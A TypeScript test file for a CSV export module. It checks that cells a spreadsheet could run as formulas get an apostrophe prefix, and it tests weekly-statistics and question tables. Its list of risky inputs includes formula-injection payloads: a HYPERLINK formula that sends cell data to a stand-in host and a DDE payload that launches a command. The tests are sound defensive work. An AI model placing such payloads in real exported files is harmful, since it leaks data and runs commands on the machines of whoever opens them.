import { describe, it } from "vitest";
import { csv } from "./csv.ts";
import { questionsTable, weeksTable } from "./tables.ts";

const RISKY = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|'/C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  '"=1+1',
  "'=1+1",
  "＝1+1",
  "\u200b=1+1",
  "\u00a0＠SUM(1)",
  "+33612345678",
];
const HARMLESS = ["a;=1+1", 'a","=1+1', "a\n=1+1", "0123456789", "Où ? À 10 %", "२+२", ""];

/** The cells of a table as RFC 4180 has them. */
function cellsOf(table: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of table
    .slice(1)
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") {
      lines.push([]);
    }
  }
  return lines.slice(0, -1);
}

describe("a table for spreadsheets", () => {
  it("begins with a byte order mark, and gives every cell back", ({ expect }) => {
    const table = csv([
      ["a", "b"],
      ['say "hi", you', 3, null],
      ["two\r\nlines", 0],
    ]);
    expect(table.startsWith("\uFEFF")).toBe(true);
    expect(cellsOf(table)).toEqual([
      ["a", "b"],
      ['say "hi", you', "3", ""],
      ["two\r\nlines", "0"],
    ]);
  });

  it.for(RISKY)("has an apostrophe before what could be run: %j", (text, { expect }) => {
    expect(cellsOf(csv([[text]]))).toEqual([[`'${text}`]]);
  });

  it.for(HARMLESS)("leaves as it is what could not: %j", (text, { expect }) => {
    expect(cellsOf(csv([[text, "next"]]))).toEqual([[text, "next"]]);
  });
});

describe("the weeks", () => {
  it("begin where something happened, times in whole minutes", ({ expect }) => {
    const empty = {
      monday: "2026-11-09",
      asked: 0,
      begun: 0,
      alone: 0,
      handedOver: 0,
      medianReplyMs: null,
      waited: 0,
      quick: 0,
    };
    const week = { ...empty, monday: "2026-11-16", asked: 3, begun: 2, alone: 1, handedOver: 2 };
    const weeks = [empty, { ...week, medianReplyMs: 90_000, waited: 2, quick: 1 }, empty];
    const [head, ...rows] = cellsOf(weeksTable(weeks, "fr"));
    expect(head?.[0]).toBe("Semaine du");
    expect(rows).toEqual([
      ["2026-11-16", "3", "2", "1", "2", "2", "1", "2"],
      ["2026-11-09", "0", "0", "0", "0", "", "0", "0"],
    ]);
    expect(cellsOf(weeksTable([empty], "en"))).toHaveLength(1);
  });
});

describe("the questions", () => {
  it("stand in the latest words, with how often they were asked", ({ expect }) => {
    const asked = { conversation: "c", seq: 1, language: "fr" };
    const group = [
      { ...asked, text: "livrez-vous ?", at: 1_000 },
      { ...asked, text: "=livrez vous en Corse", at: 2_000 },
    ];
    expect(cellsOf(questionsTable([group], "en"))[1]).toEqual([
      "'=livrez vous en Corse",
      "2",
      "fr",
      "1970-01-01T00:00:02.000Z",
    ]);
  });
});
